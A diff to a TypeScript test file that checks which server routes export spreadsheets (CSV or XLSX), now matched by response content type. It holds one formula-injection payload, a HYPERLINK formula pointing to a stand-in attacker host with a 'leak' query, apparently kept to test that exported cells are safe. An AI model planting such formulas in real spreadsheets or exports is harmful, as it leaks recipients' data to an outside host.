@@ -11,8 +11,18 @@ import { perFile } from '../../testing/perFile.ts';
 const h = perFile(startHarness);
 const FORMULA = '=HYPERLINK("http://attacker.test/?leak","open")';
 
-/** The server's routes that write a spreadsheet (CSV or XLSX), as the OpenAPI document names them. */
-const SPREADSHEET_ROUTES = ['GET /api/v1/reports/{id}/export/{format}'];
+/**
+ * The server's routes that answer a spreadsheet (CSV or XLSX), as the OpenAPI document names them.
+ * A managerial download's file is written by the download job, whose formula cells its own test
+ * attacks (modules/downloads/downloads.test.ts).
+ */
+const SPREADSHEET_ROUTES = [
+  'GET /api/v1/reports/{id}/export/{format}',
+  'GET /api/v1/download-requests/{id}/file',
+];
+const SPREADSHEET_TYPES = /text\/csv|spreadsheetml/;
+/** Routes that hand back a file as it was uploaded (a CSV among the files): the server writes no cell. */
+const AS_UPLOADED = ['GET /api/v1/files/{id}/content'];
 
 let made: Promise<{ vehicle: string }> | undefined;
 const fleet = () => {
@@ -51,11 +61,22 @@ function readWorkbook(bytes: Buffer) {
 
 describe('spreadsheet exports', () => {
   it('are the routes listed here, and no other', async () => {
-    const doc = (await h.app.inject('/api/docs/json')).json() as { paths: Record<string, object> };
+    type Operation = { responses?: Record<string, { content?: Record<string, unknown> }> };
+    const doc = (await h.app.inject('/api/docs/json')).json() as {
+      paths: Record<string, Record<string, Operation>>;
+    };
+    // What a route answers, not what its path is called: an upload named csv answers JSON.
     const exporting = Object.entries(doc.paths).flatMap(([path, verbs]) =>
-      /export|csv|xlsx/i.test(path) ? Object.keys(verbs).map((verb) => `${verb.toUpperCase()} ${path}`) : [],
+      Object.entries(verbs)
+        .filter(([, operation]) =>
+          Object.values(operation.responses ?? {}).some((answer) =>
+            Object.keys(answer.content ?? {}).some((type) => SPREADSHEET_TYPES.test(type)),
+          ),
+        )
+        .map(([verb]) => `${verb.toUpperCase()} ${path}`)
+        .filter((route) => !AS_UPLOADED.includes(route)),
     );
-    expect(exporting).toEqual(SPREADSHEET_ROUTES);
+    expect(exporting.sort()).toEqual([...SPREADSHEET_ROUTES].sort());
   });
 
   it('export a report named with the characters Excel refuses in a sheet name as a readable XLSX', async () => {
